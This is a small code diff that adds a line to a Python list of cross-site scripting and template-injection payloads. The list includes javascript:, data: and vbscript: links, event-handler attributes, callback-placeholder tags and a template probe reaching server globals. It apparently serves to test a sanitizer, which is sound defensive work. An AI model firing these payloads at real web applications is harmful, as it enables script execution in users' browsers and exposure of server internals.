@@ -60,6 +60,7 @@ PAYLOADS = [
     "<form action={hit}><button autofocus></form><video poster={hit} src={hit}></video>",
     f"[click](javascript:{PWN}) ![i]({{hit}}) <{{hit}}>",
     f"javascript:{PWN}",
+    "[a](javascript:alert(1)) <javascript:alert(1)> [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x)",
     f'<details open ontoggle="{PWN}"><summary>x</summary></details>',
     f'<body onload="{PWN}"><marquee onstart="{PWN}">',
     "{{ 7*7 }}{% raw %}<script>x</script>{{ self.__init__.__globals__ }}",
